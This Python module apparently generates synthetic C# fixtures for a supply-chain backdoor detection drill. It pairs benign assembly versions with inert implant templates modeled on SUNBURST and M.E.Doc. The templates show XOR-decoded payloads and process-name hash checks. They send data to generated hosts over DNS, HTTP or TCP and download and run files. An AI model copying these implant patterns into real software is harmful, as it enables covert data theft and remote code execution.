"""C# source: a benign assembly in two versions, and inert types shaped like SUNBURST and M.E.Doc."""

# ruff: noqa: E501 -- templates of another language keep their own lines

from __future__ import annotations

import zlib
from base64 import b64encode

from doorward.drill.chance import Chance, Names

__all__ = ["benign_source", "managed_implant"]

_CLASSES = (
    """public class CLASSCounter { int n; public int Add(int k) { n += k * TWEAK; return n; } public void Reset() { n = 0; } }""",
    """public class CLASSSettings { readonly Dictionary<string, string> map = new Dictionary<string, string>();
    public string Get(string k) { string v; return map.TryGetValue(k, out v) ? v : null; }
    public void Load(string text) { foreach (var line in text.Split('\\n')) { var p = line.Split('='); if (p.Length > TWEAK) map[p[0]] = p[1]; } } }""",
    """public static class CLASSText { public static string Title(string s) { var b = new StringBuilder();
    foreach (var w in s.Split(' ')) if (w.Length > TWEAK) b.Append(char.ToUpper(w[0])).Append(w.Substring(1)).Append(' ');
    return b.ToString().Trim(); } }""",
    """public class CLASSReport { public string Name { get; set; } public DateTime When { get; set; }
    public string Line() { return string.Format("{0} {1:yyyy-MM-dd} {2}", Name, When, TWEAK); } }""",
    """public class CLASSCache<T> { readonly List<T> items = new List<T>(); public void Put(T x) { items.Add(x);
    if (items.Count > 10 + TWEAK) items.RemoveAt(0); } public int Size { get { return items.Count; } } }""",
    """public static class CLASSMath { public static double Mean(double[] v) { double t = 0; foreach (var x in v) t += x;
    return v.Length > 0 ? t / v.Length : TWEAK; } public static int Gcd(int a, int b) { return b == 0 ? a : Gcd(b, a % b); } }""",
)
_USINGS = "Collections.Generic Diagnostics Globalization IO IO.Compression Linq Net Net.Sockets Reflection Text Threading"


def benign_source(chance: Chance) -> tuple[str, str, list[str]]:
    """Old and new source of a small assembly without an implant, and its class names."""
    head = "using System;\n" + "".join(f"using System.{part};\n" for part in _USINGS.split())
    names = Names(chance, "camel")
    prefix = names["prefix"].capitalize()
    drawn = chance.sample(_CLASSES, chance.number(3, 6))
    tweaks = [(k := chance.number(0, 5), k + (1 if chance.maybe(0.4) else 0)) for _ in drawn]
    texts = []
    for newer in (False, True):
        parts = [
            text.replace("CLASS", prefix).replace("TWEAK", str(tweak[newer]))
            for text, tweak in zip(drawn, tweaks, strict=True)
        ]
        number = "2.3.1.0" if newer else "2.3.0.0"
        version = f'[assembly: AssemblyVersion("{number}")]'
        texts.append(f"{head}{version}\nnamespace {prefix} {{\n" + "\n".join(parts) + "\n}\n")
    return texts[0], texts[1], [prefix]


def managed_implant(chance: Chance, shape: str, resource: str = "") -> str:
    """A type to add: `type`, `resource`, `strings` or `vendor`."""
    names = Names(chance, chance.pick(("camel", "camel", "short", "confusable")))
    name = (
        names["type"][0].upper()
        + names["type"][1:]
        + chance.pick(("Manager", "Layer", "Helper", "Service", ""))
    )
    run, decode, send = names["run"], names["decode"], names["send"]
    hashes = ", ".join(f"{chance.number(1 << 50, (1 << 64) - 1)}UL" for _ in range(chance.number(8, 60)))
    key = ", ".join(str(byte) for byte in chance.blob(8, 24))
    dead = chance.pick(
        ("Environment.TickCount == 1 && Environment.ProcessorCount > 8192", "DateTime.UtcNow.Year < 1999",
         f'Environment.GetEnvironmentVariable("{chance.word()}") == "{chance.letters(9, 12)}"')
    )  # fmt: skip
    decoder = chance.pick(
        (
            "for (int i = 0; i < d.Length; i++) d[i] ^= K[i % K.Length];",
            "uint s = K[0]; for (int i = 0; i < d.Length; i++) { s = s * 214013u + 2531011u; d[i] ^= (byte)(s >> 16); }",
            "byte a = K[1]; for (int i = 0; i < d.Length; i++) { var t = d[i]; d[i] = (byte)(t - a); a = t; }",
        )
    )
    host = chance.host()
    exit_code = chance.pick(
        (
            f'Dns.GetHostEntry(BitConverter.ToString(d, 0, 8).Replace("-", "") + ".{host}");',
            f'new WebClient().UploadData("https://{host}/{chance.word()}", d);',
            f'var r = (HttpWebRequest)WebRequest.Create("https://{host}/"); r.GetResponse().Close();',
            f'using (var c = new TcpClient("{host}", {chance.number(1000, 60000)})) c.GetStream().Write(d, 0, d.Length);',
        )
    )
    common = (
        f"static readonly byte[] K = {{ {key} }};\n    static byte[] {decode}(byte[] d) {{ {decoder} return d; }}\n"
        f"    static void {send}(byte[] d) {{ {exit_code} }}"
    )
    if shape == "type":
        body = (
            f"{common}\n    static readonly ulong[] H = {{ {hashes} }};\n"
            "    static ulong F(string s) { ulong h = 14695981039346656037UL; foreach (byte b in Encoding.UTF8.GetBytes(s)) "
            f"{{ h ^= b; h *= 1099511628211UL; }} return h ^ {chance.number(1 << 60, (1 << 64) - 1)}UL; }}\n"
            f"    public static void {run}() {{\n        if (!({dead})) return;\n"
            "        foreach (var p in Process.GetProcesses()) if (Array.IndexOf(H, F(p.ProcessName.ToLower())) >= 0) return;\n"
            f'        var d = {decode}(Convert.FromBase64String("{b64encode(chance.blob(800, 4000)).decode()}"));\n'
            f"        {send}(d);\n        Assembly.Load(d).EntryPoint.Invoke(null, null);\n    }}"
        )
    elif shape == "resource":
        body = (
            f"{common}\n    public static void {run}() {{\n        if (!({dead})) return;\n"
            f'        using (var s = Assembly.GetExecutingAssembly().GetManifestResourceStream("{resource}")) '
            "using (var m = new MemoryStream()) {\n            s.CopyTo(m);\n"
            f"            var a = Assembly.Load({decode}(m.ToArray()));\n"
            "            Activator.CreateInstance(a.GetTypes()[0]);\n        }\n    }"
        )
    elif shape == "strings":
        packed = [_deflated(chance.prose(chance.number(2, 6))) for _ in range(chance.number(8, 40))]
        rows = ", ".join(f'"{text}"' for text in packed)
        body = (
            f"{common}\n    static readonly string[] S = {{ {rows} }};\n    static string U(string t) {{\n"
            "        using (var i = new MemoryStream(Convert.FromBase64String(t))) using (var z = new DeflateStream(i, "
            "CompressionMode.Decompress)) using (var r = new StreamReader(z)) return r.ReadToEnd();\n    }\n"
            f"    public static void {run}() {{\n        if (!({dead})) return;\n"
            "        Process.Start(new ProcessStartInfo(U(S[0]), U(S[1])) { CreateNoWindow = true, UseShellExecute = false });\n"
            f"        {send}(Encoding.UTF8.GetBytes(U(S[2])));\n    }}"
        )
    else:
        body = (
            f"{common}\n    public static void {run}() {{\n        if (!({dead})) return;\n"
            f"        {send}(Encoding.UTF8.GetBytes(Environment.MachineName + Environment.UserName + Environment.OSVersion));\n"
            f'        var t = new WebClient().DownloadString("https://upd.{host}/last.ver");\n'
            f"        var d = {decode}(Convert.FromBase64String(t));\n"
            "        var f = Path.Combine(Path.GetTempPath(), Path.GetRandomFileName());\n"
            "        File.WriteAllBytes(f, d); Process.Start(f);\n    }"
        )
    return f"internal static class {name} {{\n    {body}\n}}\n|{name}.{run}();"


def _deflated(text: str) -> str:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return b64encode(packer.compress(text.encode()) + packer.flush()).decode()
